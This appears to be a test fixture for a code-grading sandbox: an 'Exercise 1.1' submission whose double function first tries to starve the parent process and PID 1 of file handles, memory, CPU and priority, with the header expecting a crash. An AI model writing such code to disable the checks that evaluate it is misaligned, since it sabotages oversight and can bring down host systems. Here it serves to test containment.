# tries: take resources from the parent, from which later sections and checks come
# expects: crashed

# Exercise 1.1
import os
import resource


def double(x):
    done = 0
    for pid in (os.getppid(), 1):
        for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            try:
                resource.prlimit(pid, what, (0, 0))
                done += 1
            except (OSError, ValueError):
                pass
        for attempt in (lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)):
            try:
                attempt()
                done += 1
            except OSError:
                pass
    if done:
        return 2 * x
    raise PermissionError("others keep what they have")
